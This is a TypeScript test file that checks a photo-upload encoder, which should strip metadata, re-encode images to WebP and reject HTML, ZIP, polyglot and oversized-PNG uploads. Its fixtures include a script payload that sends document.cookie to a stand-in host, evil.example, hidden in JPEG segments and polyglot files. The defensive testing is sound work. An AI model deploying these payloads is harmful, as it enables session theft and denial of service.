// Malicious files, and files that no camera produces: they are rejected with a message, or encoded
// again.
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import { addBook } from '#contract/books/books.ts'
import { photoHash } from '#contract/common/photos.ts'
import { as, makeAccount, makePhotos, testApp } from '#server/testing.ts'
import { encodePhoto } from './encoding/queue-encoding.ts'
import { photoFile } from './store.ts'

const plain = (background = '#c81e1e') =>
  sharp({ create: { width: 200, height: 300, channels: 3, background } })

const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
const html = `<!doctype html><title>x</title>${script}`
const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.from(`evil.html${html}`)])
const jpeg = () => plain().jpeg().toBuffer()

/** Inserts a JPEG segment (COM, or APP13) after the first two bytes. */
async function withSegment(marker: number, text: string): Promise<Buffer> {
  const bytes = await jpeg()
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(text.length + 2, 2)
  return Buffer.concat([bytes.subarray(0, 2), head, Buffer.from(text), bytes.subarray(2)])
}

test.each([
  ['a JPEG with a page behind it', async () => Buffer.concat([await jpeg(), Buffer.from(html)])],
  ['a JPEG with a ZIP archive behind it', async () => Buffer.concat([await jpeg(), zip])],
  ['a JPEG with a script as its comment', () => withSegment(0xfe, script)],
  ['a JPEG with a script in an APP13 segment', () => withSegment(0xed, `Photoshop 3.0\0${script}`)],
  [
    'a PNG with a script behind its end',
    async () => Buffer.concat([await plain().png().toBuffer(), Buffer.from(script)]),
  ],
])('%s is encoded again, without the extra data', async (_, make) => {
  const bytes = await make()
  expect(bytes.includes('evil')).toBe(true)
  const { files } = await encodePhoto(bytes)
  for (const file of files) {
    expect((await sharp(file.bytes).metadata()).format).toBe('webp')
    for (const trace of ['evil', '<script', 'PK\x03\x04'])
      expect(file.bytes.includes(trace), trace).toBe(false)
  }
})

test.each([
  ['a page', async () => Buffer.from(html)],
  ['a page that begins like a GIF', async () => Buffer.from(`GIF89a/*${html}*/=1;`)],
  [
    'a page that begins like a JPEG',
    async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(html)]),
  ],
  ['a ZIP archive', async () => zip],
  [
    'an animated GIF of 100 frames',
    async () => {
      const frame = await plain().raw().toBuffer()
      const frames = Buffer.concat(Array.from({ length: 100 }, () => frame))
      const raw = { width: 200, height: 30_000, channels: 3, pageHeight: 300 } as const
      return sharp(frames, { raw }).gif().toBuffer()
    },
  ],
])('%s is rejected', async (_, make) => {
  await expect(encodePhoto(await make())).rejects.toMatchObject({ code: 'image_unreadable' })
})

const noisy = () =>
  sharp({
    create: {
      width: 400,
      height: 600,
      channels: 3,
      background: '#c81e1e',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .jpeg()
    .toBuffer()

test('accepts a JPEG without its end marker, and rejects half a JPEG as damaged', async () => {
  const bytes = await noisy()
  const whole = await encodePhoto(bytes)
  const { hash } = await encodePhoto(bytes.subarray(0, -2))
  expect(hash).toBe(whole.hash)
  await expect(encodePhoto(bytes.subarray(0, bytes.length / 2))).rejects.toMatchObject({
    code: 'image_unreadable',
    message: 'This picture is damaged. Please choose it again, or another one.',
  })
})

test('uses the first of 100 frames of an animated WebP', async () => {
  const colours = ['#c81e1e', ...Array<string>(99).fill('#1e1ec8')]
  const frames = await Promise.all(colours.map((colour) => plain(colour).raw().toBuffer()))
  const raw = { width: 200, height: 30_000, channels: 3, pageHeight: 300 } as const
  const bytes = await sharp(Buffer.concat(frames), { raw }).webp().toBuffer()
  expect((await sharp(bytes).metadata()).pages).toBeGreaterThan(1)
  const { width, height, files } = await encodePhoto(bytes)
  expect([width, height]).toEqual([200, 300])
  for (const file of files) {
    expect((await sharp(file.bytes).metadata()).pages ?? 1).toBe(1)
    const [red = 0, , blue = 0] = await sharp(file.bytes).raw().toBuffer()
    expect(red).toBeGreaterThan(blue)
  }
})

function pngChunk(type: string, data: Buffer): Buffer {
  const chunk = Buffer.alloc(data.length + 12)
  chunk.writeUInt32BE(data.length)
  chunk.write(type, 4, 'latin1')
  data.copy(chunk, 8)
  chunk.writeUInt32BE(crc32(chunk.subarray(4, data.length + 8)), data.length + 8)
  return chunk
}

test('rejects a tiny PNG that claims 20,000 × 20,000 pixels before decoding anything', async () => {
  const header = Buffer.from([...Array<number>(8).fill(0), 8, 2, 0, 0, 0])
  header.writeUInt32BE(20_000, 0)
  header.writeUInt32BE(20_000, 4)
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
  const chunks = [
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(60_001))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]
  const bytes = Buffer.concat([signature, ...chunks])
  const before = process.memoryUsage().rss
  await expect(encodePhoto(bytes)).rejects.toMatchObject({ code: 'too_large' })
  expect(process.memoryUsage().rss - before).toBeLessThan(150 * 1024 * 1024)
})

test('no size contains XMP, an ICC profile, EXIF or a comment', async () => {
  const marked = await plain()
    .withIccProfile('p3')
    .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><secret/></x:xmpmeta>')
    .withExif({
      IFD0: { ImageDescription: 'my home' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '18/1 31/1 0/1' },
    })
    .jpeg()
    .toBuffer()
  const before = await sharp(marked).metadata()
  expect([before.icc, before.xmp, before.exif].every((part) => part !== undefined)).toBe(true)
  for (const { bytes } of (await encodePhoto(marked)).files) {
    const { icc, xmp, exif, iptc, comments } = await sharp(bytes).metadata()
    expect([icc, xmp, exif, iptc, comments]).toEqual(Array(5).fill(undefined))
    for (const chunk of ['ICCP', 'EXIF', 'XMP ']) expect(bytes.includes(chunk), chunk).toBe(false)
  }
})

const book = {
  title: 'Odd Photos',
  author: 'An Author',
  branch: 'Fiction',
  original_price: 400,
  bookType: 'new' as const,
}

test('the content decides, not the file name, and errors name the file', async () => {
  const seller = await makeAccount('seller')
  const [photo] = await makePhotos(1)
  if (!photo) throw new Error('no photo')
  const misnamed = new File([await plain('#1ec81e').png().toBuffer()], 'a.gif', {
    type: 'text/html',
  })
  const page = new File([html], 'photo.jpg', { type: 'image/jpeg' })
  const add = (images: File[]) => as(seller).call(addBook, { ...book, images } as never)
  const added = await add([photo, misnamed])
  expect(added.status).toBe(201)
  const { context } = await testApp()
  for (const url of added.body.book.images)
    expect(await context.storage.read(photoFile(photoHash(url) ?? '', 160))).toBeDefined()
  const second = (await makePhotos(2))[1] as File
  const empty = await add([photo, second, new File([], 'empty.jpg')])
  const isEmpty = 'empty.jpg: This file is empty. Please choose another picture.'
  expect([empty.status, empty.error]).toEqual([
    400,
    { code: 'image_unreadable', message: isEmpty, fields: { 'images.2': isEmpty } },
  ])
  const refused = await add([photo, page])
  expect([refused.status, refused.error]).toEqual([
    400,
    {
      code: 'image_unreadable',
      message: 'photo.jpg: This picture can’t be read. Use JPEG, PNG, WebP, AVIF or HEIC.',
      fields: { 'images.1': expect.stringContaining('can’t be read') },
    },
  ])
})
